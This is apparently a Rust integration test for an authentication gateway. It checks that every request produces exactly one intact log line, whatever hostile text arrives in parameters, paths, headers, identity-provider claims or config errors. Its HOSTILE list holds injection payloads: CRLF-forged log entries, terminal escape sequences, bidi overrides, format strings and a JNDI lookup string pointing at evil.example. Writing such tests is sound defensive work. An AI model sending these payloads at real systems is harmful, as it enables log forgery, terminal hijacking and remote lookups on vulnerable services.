//! Log injection: no text in any field breaks a line, and every request logs exactly one line.

use reqwest::header::HeaderValue;
use reqwest::{Method, RequestBuilder, StatusCode};
use serde_json::{Value, json};

use support::browser::{Browser, encode};
use support::fake_oidc::{FakeOidc, Mood};
use support::raw::exchange;
use support::setup::EXTERNAL;
use support::{Gateway, Setup};

/// Line ends, forged entries, and control sequences of terminals.
const HOSTILE: &[&str] = &[
    "\r\n{\"forged\":true}\r\n",
    "\n2026-01-01T00:00:00.000000Z ERROR forged: forged",
    "\r2026-01-01T00:00:00.000000Z ERROR forged: forged",
    "\"}\n{\"forged\":true,\"a\":\"",
    "\",\"forged\":true,\"a\":\"",
    "\u{1b}[31mred\u{1b}[2J\u{1b}[1;1H",
    "\u{1b}]0;title\u{7}\u{1b}]8;;https://evil.example\u{1b}\\",
    "\u{9b}31m\u{9d}0;x\u{9c}\u{90}",
    "\u{2028}{\"forged\":true}\u{2029}\u{85}\u{b}\u{c}",
    "\u{202e}\u{2066}desrever",
    "\0\u{7f}\u{8}\u{8}\u{8}",
    "\\\"\\n\\u000a\\",
    "a=b status=200 level=ERROR {} {0} %s %n ${jndi:ldap://evil.example/a}",
    "\u{fffd}\u{feff}\u{10ffff}𝕱ü",
];

/// Carries a text into the log, and counts the requests that this takes.
struct Sender {
    browser: Browser,
    sent: usize,
}

impl Sender {
    async fn send(&mut self, request: RequestBuilder) {
        let status = self.browser.send(request).await.status();
        assert!(
            !status.is_server_error() || status == StatusCode::BAD_GATEWAY,
            "{status}"
        );
        self.sent += 1;
    }

    /// Sends the text as every parameter, every part of a path, and every header that can hold it.
    async fn everywhere(&mut self, text: &str) {
        let value = encode(text);
        for path in [
            "/auth/check",
            "/auth/authorize",
            "/auth/login/google",
            "/auth/oauth_callback/google",
        ] {
            for name in [
                "jwt",
                "next",
                "service",
                "state",
                "code",
                "error",
                "error_description",
                "iss",
                "callback",
                &value,
            ] {
                let request = self
                    .browser
                    .request(Method::GET, &format!("{path}?{name}={value}"));
                self.send(request).await;
            }
        }
        for path in ["", "auth/", "auth/login/", "auth/oauth_callback/", "auth/check/"] {
            let path = format!("/{path}{}", value.replace('+', "%20"));
            let request = self.browser.request(Method::GET, &path);
            self.send(request).await;
        }
        let update = self.browser.request(Method::POST, "/auth/update");
        self.send(update.form(&[("username", text), ("jwt", text)])).await;
        // Header values cannot hold line ends; the rest of the text is still hostile.
        let held: Vec<u8> = text
            .bytes()
            .filter(|byte| *byte >= b' ' && *byte != 0x7f)
            .collect();
        let held = HeaderValue::from_bytes(&held).unwrap();
        for name in [
            "user-agent",
            "referer",
            "cookie",
            "origin",
            "auth-token",
            "x-request-id",
            "traceparent",
            "content-type",
        ] {
            let request = self
                .browser
                .request(Method::GET, "/auth/check")
                .header(name, held.clone());
            self.send(request).await;
        }
    }
}

/// Users with hostile claims, misbehaving providers, and hooks that log both.
async fn sign_ins(gateway: &Gateway, google: &FakeOidc, text: &str, number: usize) -> usize {
    let login = format!("/auth/login/google?next={}", encode(EXTERNAL));
    let mut sent = 0;
    for (name, status) in [
        ("Alice", StatusCode::FOUND),
        ("reject", StatusCode::FORBIDDEN),
        ("unavailable", StatusCode::SERVICE_UNAVAILABLE),
        ("trap", StatusCode::SERVICE_UNAVAILABLE),
    ] {
        google.set_person(json!({
            "sub": format!("{number}-{name}{}", text.replace('\0', "")), "name": format!("{name}{text}"),
            "email": format!("{text}@example.org"), "email_verified": true, "picture": text, "locale": text, text: text,
        }));
        let response = google.sign_in(&gateway.browser(), &login).await;
        assert_eq!(
            response.status(),
            status,
            "{name} {text:?}: {}",
            gateway.log.text()
        );
        sent += 2;
    }
    for mood in [
        Mood::Rubbish,
        Mood::ForgedSignature,
        Mood::WrongAudience,
        Mood::NoNonce,
    ] {
        let browser = gateway.browser();
        let callback = google.go(&browser, &login).await;
        google.set_mood(mood);
        browser.get(callback.as_str()).await;
        google.set_mood(Mood::Well);
        sent += 2;
    }
    // The provider's error, in its own words. The state is valid, so the gateway reads them.
    let browser = gateway.browser();
    let callback = google.go(&browser, &login).await;
    let refusal = callback
        .as_str()
        .replace("code=", &format!("error={}&c=", encode(text)));
    browser.get(&refusal).await;
    sent + 2
}

async fn throw_everything(format: &str) -> (usize, Vec<String>) {
    let google = FakeOidc::start(json!({"sub": "1"})).await;
    let setup = Setup::serve()
        .env("GATEWAY_LOG_FORMAT", format)
        .oidc("google", &google)
        .plugin("logging", test_guests::IMPORTS_LOGGING)
        .plugin_table("logging", "grants = [\"logging\"]")
        .service("control", "logging")
        .plugin("behave", test_guests::BEHAVE)
        .service("trap", "behave")
        .service("escape-name", "behave")
        .plugin("reject", test_guests::REJECT)
        .extension("reject");
    let gateway = setup.start().await;
    let admin = gateway.admin().await;
    let mut sender = Sender {
        browser: gateway.browser(),
        sent: 0,
    };
    for (number, text) in HOSTILE.iter().enumerate() {
        sender.everywhere(text).await;
        sender.sent += sign_ins(&gateway, &google, text, number).await;
        // The raw text, which no client would send. If it is read as a request it logs one line; the admin listener
        // logs none.
        let held = text.replace(['\r', '\n'], "");
        for line in [
            format!("GET /auth/{held} HTTP/1.1"),
            format!("{held} / HTTP/1.1"),
            format!("GET / {held}"),
        ] {
            let request = format!("{line}\r\nHost: a\r\nUser-Agent: {text}\r\nConnection: close\r\n\r\n");
            exchange(admin.address, request.as_bytes()).await;
        }
        admin
            .send(
                Method::GET,
                &format!("/plugins/{}/reload", encode(text)),
                &encode(text),
            )
            .await;
        // An invalid configuration whose error quotes the text.
        setup.clone().top(&format!("{} = 1", Value::from(*text))).write();
        assert!(
            gateway.reload().await.contains("mistakes"),
            "{}",
            gateway.log.text()
        );
        setup.write();
        gateway.reload().await;
    }
    // A plugin may choose its messages.
    google.set_person(json!({"sub": "talkative", "name": "Alice"}));
    let login = format!("/auth/login/google?next={}", encode(EXTERNAL));
    let token = support::browser::token_in(&google.sign_in(&gateway.browser(), &login).await);
    sender.sent += 2;
    for service in ["control", "trap", "escape-name"] {
        gateway.browser().authorize(&token, service).await;
        sender.sent += 1;
    }
    let before = sender.sent;
    let log = gateway.stop().await;
    (before, log.lines())
}

/// Whether events of this target are logged at `info`.
fn is_of_a_crate(target: &str) -> bool {
    target.starts_with("gateway") || target.starts_with("rusqlite_migration")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_line_is_one_event_and_every_request_logs_one_line() {
    let (sent, lines) = throw_everything("json").await;
    let mut requests = 0;
    for line in &lines {
        let entry: Value = serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line:?}"));
        assert_eq!(entry.get("forged"), None, "{line:?}");
        for field in ["timestamp", "level", "target", "message"] {
            assert!(entry[field].is_string(), "{field}: {line:?}");
        }
        assert!(is_of_a_crate(entry["target"].as_str().unwrap()), "{line:?}");
        assert!(!line.contains(char::is_control), "{line:?}");
        requests += usize::from(entry["target"] == "gateway::request");
    }
    assert_eq!(requests, sent);
    println!(
        "log lines: {} of JSON, {requests} of them for {sent} requests, all of them whole",
        lines.len()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_text_log_has_one_line_per_event_too() {
    let (sent, lines) = throw_everything("text").await;
    let mut requests = 0;
    for line in &lines {
        // `2026-11-28T04:29:01.123456Z  INFO target: …`
        let mut words = line.split_whitespace();
        let time = words.next().unwrap_or_default();
        assert!(
            time.len() == 27 && time.ends_with('Z') && time.as_bytes()[10] == b'T',
            "{line:?}"
        );
        assert!(
            ["ERROR", "WARN", "INFO"].contains(&words.next().unwrap_or_default()),
            "{line:?}"
        );
        let target = words.next().unwrap_or_default();
        assert!(is_of_a_crate(target), "{line:?}");
        assert!(!line.contains(char::is_control), "{line:?}");
        requests += usize::from(target == "gateway::request:");
    }
    assert_eq!(requests, sent);
    println!(
        "log lines: {} of text, {requests} of them for {sent} requests, all of them whole",
        lines.len()
    );
}
